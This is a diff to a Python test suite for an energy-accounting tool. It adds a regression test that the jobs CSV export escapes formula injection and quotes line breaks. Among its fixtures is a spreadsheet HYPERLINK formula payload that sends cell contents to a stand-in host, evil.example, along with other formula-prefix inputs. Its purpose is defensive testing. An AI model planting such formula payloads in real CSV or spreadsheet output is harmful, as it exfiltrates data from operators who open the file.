@@ -4,6 +4,8 @@ at the same boundary, the cell rule recomputed here from the stored cells."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import subprocess
@@ -340,6 +342,70 @@ def test_jobs_tenant_csv_and_text(site: tuple[Path, dict, Path]) -> None:
     assert r.returncode == 0 and "identities over 59 of 60 cells" in r.stdout
 
 
+def test_jobs_csv_reads_back_as_written_adds_up_to_the_site_and_runs_no_formula(site: tuple[Path, dict, Path],
+                                                                                 tmp_path: Path) -> None:
+    """Found by the jobs audit: job and tenant names (a job's environment sets them: SLURM_JOB_ACCOUNT) went
+    into the CSV raw, so a name beginning with = ran as a formula in the spreadsheet an operator opened it
+    in, and a CR in a name was not quoted (the row split in two); the CSV had no unattributed energy, no
+    site totals and no period, so its rows could not be checked against anything, and its warnings (a
+    mistyped --tenant, records left out) were nowhere."""
+    from puewatch.jobs.cli import CSV_COLUMNS
+
+    conf, cells, _root = site
+    # (A CR, which the collector's line protocol parser takes in a string and puewatch's encoder refuses,
+    # is put in after encoding.)
+    names = [('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd"), ("-2+3", "@SUM(1)"), ("cr", "t<CR>z"),
+             ("q", 'acme, "inc"')]
+    extra = [encode_point(schema.JOB_LEDGER, {"node": "gpu-a-3", "gpu": str(g), "slot": "0"},
+                          {"job": job, "tenant": tenant, "source": "static", "gpu_model": "NVIDIA H100 80GB HBM3",
+                           "interval_s": 60.0, "gpu_wh": 2.0, "gpu_wh_estimated": False, "share": 1.0, "shared": False,
+                           "reserved_idle": False, "host_wh": 0.5, "host_estimated": False}, T0 + m * 60 * NS)
+             for g, (job, tenant) in enumerate(names) for m in range(1, 61)]
+    store = EmbeddedStore(tmp_path / "store.sqlite")
+    store.write(_lines(cells) + ("\n".join(extra) + "\n").replace("<CR>", "\r").encode())
+    store.close()
+    doc = _doc(conf, str(tmp_path / "store.sqlite"))
+    out = tmp_path / "jobs.csv"
+    r = _jobs(conf, str(tmp_path / "store.sqlite"), "--csv", "-o", str(out))
+    assert r.returncode == 0, r.stderr
+    text = out.read_bytes().decode()
+    assert text.endswith("\r\n") and text.count("\r\n") == text.count("\n")  # CRLF line ends
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == list(CSV_COLUMNS) and all(len(row) == len(CSV_COLUMNS) for row in rows)
+    rows = [dict(zip(CSV_COLUMNS, row)) for row in rows[1:]]
+    jobs = {row["job"]: row for row in rows if row["kind"] == "job"}
+    # Formulas are text (a leading '); the other names read back exactly as the JSON has them.
+    assert jobs["'" + names[0][0]]["tenant"] == "'+cmd" and jobs["'-2+3"]["tenant"] == "'@SUM(1)"
+    assert jobs["cr"]["tenant"] == "t\rz" and jobs["q"]["tenant"] == 'acme, "inc"'
+    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if not v[:1].isdigit())
+    assert {row["site"] for row in rows} == {"lab"} and {row["period_start"] for row in rows} == {doc["period_start"]}
+    assert json.loads(jobs["11"]["gpu_hours_by_model"]) == doc["jobs"][0]["gpu_hours_by_model"] == {
+        "NVIDIA H100 80GB HBM3": pytest.approx(1.0)}
+    # The rows add up: the jobs and the unattributed energy to the site's measured IT and E_DC (the identities).
+    (unattributed,) = [row for row in rows if row["kind"] == "unattributed"]
+    (site_row,) = [row for row in rows if row["kind"] == "site"]
+    for col, total in (("it_energy_wh", "measured_it_energy_wh"), ("facility_energy_wh", "e_dc_wh")):
+        known = [j for j in doc["jobs"] if j["facility_energy_wh"] is not None]
+        jobs_sum = sum(float(jobs[_shown_job(j["job"])][col]) for j in known) if col == "facility_energy_wh" else None
+        if jobs_sum is not None:
+            assert jobs_sum + float(unattributed[col]) == pytest.approx(float(site_row[col]), rel=1e-12)
+        assert float(site_row[col]) == pytest.approx(doc["identities"][total], rel=1e-15)
+    assert site_row["pue"] and float(site_row["pue"]) == pytest.approx(doc["site_totals"]["pue"], rel=1e-15)
+    assert site_row["carbon_kg"] == "" and doc["site_totals"]["carbon_kg"] is None  # unknown: empty, never 0
+    # The warnings the JSON carries are on standard error.
+    assert doc["warnings"] and all(f"warning: {w}" in r.stderr for w in doc["warnings"] if "\n" not in w)
+    r = _jobs(conf, str(tmp_path / "store.sqlite"), "--csv", "--tenant", "nobody")
+    assert r.returncode == 0 and "tenant 'nobody' has no ledger record in the period" in r.stderr
+    # Bad arguments: a clear error, no traceback; --max-gap means nothing to jobs (they read cells) and is refused.
+    for bad in (("--cell", "inf"), ("--cell", "1e300"), ("--max-gap", "5")):
+        r = _jobs(conf, str(tmp_path / "store.sqlite"), *bad)
+        assert r.returncode == 2 and "Traceback" not in r.stderr and ("--cell" in r.stderr or "--max-gap" in r.stderr)
+
+
+def _shown_job(job: str) -> str:
+    return "'" + job if job.startswith(("=", "+", "-", "@")) else job
+
+
 def _columns_shown(text: str) -> int:
     """Terminal columns of `text`, counted here independently of puewatch.terminal.width: East Asian wide and
     fullwidth 2, combining marks 0."""
@@ -480,8 +546,8 @@ def test_unknown_host_share_is_said_and_the_identities_hold(site: tuple[Path, di
     assert i["jobs_facility_energy_wh"] + i["unattributed_facility_energy_wh"] == pytest.approx(i["e_dc_wh"], rel=1e-12)
     text = _jobs(conf, str(tmp_path / "store.sqlite"))
     assert text.returncode == 0 and "unknown 50% of the time" in text.stdout, text.stdout
-    csv_out = _jobs(conf, str(tmp_path / "store.sqlite"), "--csv").stdout.splitlines()
-    assert csv_out[0].endswith(",host_unknown_share") and any(r.startswith("job,t3,16,") and r.endswith(",0.5") for r in csv_out)
+    rows = list(csv.DictReader(io.StringIO(_jobs(conf, str(tmp_path / "store.sqlite"), "--csv").stdout, newline="")))
+    assert [r["host_unknown_share"] for r in rows if r["kind"] == "job" and r["job"] == "16"] == ["0.5"]
 
 
 def test_processes_of_no_job_and_records_without_a_job_are_counted_and_reported(site: tuple[Path, dict, Path],
